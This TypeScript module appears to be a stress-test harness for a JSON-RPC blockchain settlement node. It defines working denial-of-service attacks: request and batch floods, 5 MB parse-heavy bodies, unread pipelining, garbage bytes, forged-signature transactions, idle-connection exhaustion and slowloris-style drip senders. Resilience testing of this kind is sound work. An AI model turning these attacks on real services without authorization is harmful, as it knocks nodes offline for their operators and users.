import { type Attack, pause, type Target } from './attack.ts'
import { callBody, getBytes, keepBusy, postBytes, RawConnection } from './raw-connection.ts'

const STEP_MS = 5
/** Requests of one connection that wait for their answers before the attacker takes another one: with more the node would end it. */
const OUTSTANDING_MAX = 60
const BATCH_CALLS = 100
const BODY_BYTES = 5 * 1024 * 1024
/** Nearly as many as a message may have. */
const VALUES = 65_000

/** Reads as clients make them. */
export const READS: readonly string[] = [
  callBody('node_status', {}),
  callBody('chain_getBlock', { height: 'latest', detail: 'ids' }),
  callBody('state_query', { module: 'settlement', query: 'balance', args: { partyId: 'bank-a', currency: 'CNY' } }),
  callBody('tx_get', { hash: `0x${'11'.repeat(32)}` }),
]

function repeated(bytes: Buffer): (connection: RawConnection) => void {
  return (connection) => {
    connection.onAnswer = () => {
      if (connection.isOpen) connection.send(bytes)
    }
    connection.send(bytes)
  }
}

/**
 * Keeps to its rate whatever the answers do, as far as its connections take requests; counts those that they do not take. One write has all
 * that is due for a connection, so that the attacker's own work is small.
 */
async function openLoop(target: Target, ratePerSecond: number, connections: number): Promise<void> {
  const requests = READS.map(postBytes)
  const train = Buffer.concat(Array.from({ length: OUTSTANDING_MAX }, (_, index) => requests[index % requests.length] as Buffer))
  /** Where the first requests of the train end, by their number. */
  const ends = [0]
  for (let count = 0; count < OUTSTANDING_MAX; count++)
    ends.push((ends[count] as number) + (requests[count % requests.length] as Buffer).length)
  const open = Array.from({ length: connections }, () => new RawConnection(target))
  const startMs = performance.now()
  let [due, next] = [0, 0]
  while (!target.signal.aborted) {
    const now = Math.floor(((performance.now() - startMs) / 1000) * ratePerSecond)
    let left = now - due
    due = now
    for (let tries = 0; left > 0 && tries < open.length; tries++) {
      next = (next + 1) % open.length
      let connection = open[next] as RawConnection
      if (!connection.isOpen) {
        connection = new RawConnection(target)
        open[next] = connection
      }
      const count = Math.min(left, OUTSTANDING_MAX - connection.outstanding)
      if (count > 0) connection.send(train.subarray(0, ends[count]), count)
      left -= Math.max(0, count)
    }
    target.tally.held += left
    await pause(STEP_MS)
  }
}

const FLOOD_PER_SECOND = 10_000

export const HTTP_ATTACKS: readonly Attack[] = [
  {
    name: 'requests',
    summary: '10,000 reads/s of one client, whatever is answered',
    ratePerSecond: FLOOD_PER_SECOND,
    run: (target) => openLoop(target, FLOOD_PER_SECOND, 100),
  },
  {
    name: 'pages',
    summary: 'the largest page and the costliest one, as fast as they come',
    run: (target) => {
      const pages = Buffer.concat(['/openrpc.json', '/metrics'].map(getBytes))
      return keepBusy(target, 100, (connection) => {
        let answers = 0
        connection.onAnswer = () => {
          answers += 1
          if (answers % 2 === 0 && connection.isOpen) connection.send(pages, 2)
        }
        connection.send(pages, 2)
      })
    },
  },
  {
    name: 'batches',
    summary: 'batches of 100 of the costliest calls',
    run: (target) => {
      const calls = Array.from({ length: BATCH_CALLS }, (_, id) =>
        id % 2 === 0 ? callBody('rpc.discover', {}, id) : callBody('chain_getBlock', { height: 'latest' }, id),
      )
      return keepBusy(target, 4, repeated(postBytes(`[${calls.join(',')}]`)))
    },
  },
  {
    name: 'huge-bodies',
    summary: 'bodies of 5 MB that cost as much to read as bodies may',
    run: (target) => {
      const members = Array.from({ length: VALUES }, (_, index) => `"m${index}":[]`).join(',')
      const text = '\\u00e9'.repeat(Math.floor((BODY_BYTES - members.length) / 6) - 100)
      return keepBusy(
        target,
        4,
        repeated(postBytes(`{"jsonrpc":"2.0","id":1,"method":"tx_prepare","params":{${members},"text":"${text}"}}`)),
      )
    },
  },
  {
    name: 'pipelining',
    summary: 'thousands of requests on a connection whose answers nobody reads',
    run: (target) =>
      keepBusy(target, 8, (connection) => {
        const many = Buffer.concat(Array.from({ length: 1_000 }, () => postBytes(callBody('chain_getGenesis', {}))))
        connection.socket.pause()
        const more = (): void => {
          while (connection.isOpen && !connection.socket.writableNeedDrain) connection.send(many, 1_000)
        }
        connection.socket.on('drain', more)
        more()
      }),
  },
  {
    name: 'reconnects',
    summary: 'a new connection for each request',
    run: async (target) => {
      const request = postBytes(READS[0] as string)
      const one = async (): Promise<void> => {
        while (!target.signal.aborted) {
          const connection = new RawConnection(target)
          connection.onAnswer = () => connection.socket.destroy()
          connection.send(request)
          await connection.closed()
        }
      }
      await Promise.all(Array.from({ length: 50 }, one))
    },
  },
  {
    name: 'garbage',
    summary: 'bytes that are no HTTP',
    run: (target) =>
      keepBusy(target, 50, (connection) => connection.send(Buffer.from(`\x16\x03\x01${'\xff'.repeat(400)}\r\n\r\n`, 'latin1'))),
  },
  {
    name: 'forged-transactions',
    summary: 'transactions whose signatures do not hold',
    run: (target) =>
      keepBusy(target, 16, (connection) => {
        let next = 0
        const send = (): void => {
          const raw = target.forged[next++ % target.forged.length] as string
          if (connection.isOpen) connection.send(postBytes(callBody('tx_send', { raw })))
        }
        connection.onAnswer = send
        send()
      }),
  },
  {
    name: 'idle-connections',
    summary: '1,000 connections that say nothing, and come back',
    run: (target) => keepBusy(target, 1_000, () => undefined),
  },
  {
    name: 'idle-keep-alive',
    summary: '1,000 connections that ask once and stay',
    run: (target) => keepBusy(target, 1_000, (connection) => connection.send(postBytes(READS[0] as string))),
  },
  {
    name: 'slow-headers',
    summary: '500 clients that send a header byte by byte',
    run: (target) => keepBusy(target, 500, (connection) => drip(connection, 'POST / HTTP/1.1\r\nhost: 127.0.0.1\r\nx: ')),
  },
  {
    name: 'slow-bodies',
    summary: '500 clients that send a body byte by byte',
    run: (target) =>
      keepBusy(target, 500, (connection) =>
        drip(connection, 'POST / HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n{'),
      ),
  },
]

const DRIP_MS = 500

/** Says the beginning, and then one byte after the other. */
function drip(connection: RawConnection, beginning: string): void {
  connection.send(beginning)
  const timer = setInterval(() => {
    if (connection.isOpen) connection.socket.write(' ')
  }, DRIP_MS)
  connection.socket.once('close', () => clearInterval(timer))
}
